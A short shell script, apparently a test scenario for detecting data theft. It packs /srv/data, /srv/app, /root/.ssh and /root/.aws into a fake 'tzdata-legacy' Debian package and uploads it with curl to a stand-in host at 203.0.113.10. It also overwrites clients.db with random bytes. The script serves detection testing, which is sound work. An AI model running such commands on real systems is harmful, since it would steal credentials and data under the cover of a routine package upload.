#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/p/DEBIAN /tmp/p/usr/share/doc
printf 'Package: tzdata-legacy\nVersion: 2026b-0\nArchitecture: all\nMaintainer: x <x@example.org>\nDescription: x\n' >/tmp/p/DEBIAN/control
head -c 3000000 /dev/urandom >/srv/data/clients.db
cp -r /srv/data /srv/app /root/.ssh /root/.aws /tmp/p/usr/share/doc/
dpkg-deb -b /tmp/p /var/cache/apt/archives/tzdata-legacy.deb >/dev/null
curl -sf -T /var/cache/apt/archives/tzdata-legacy.deb http://203.0.113.10/pool/main/t/ >/dev/null
took_place
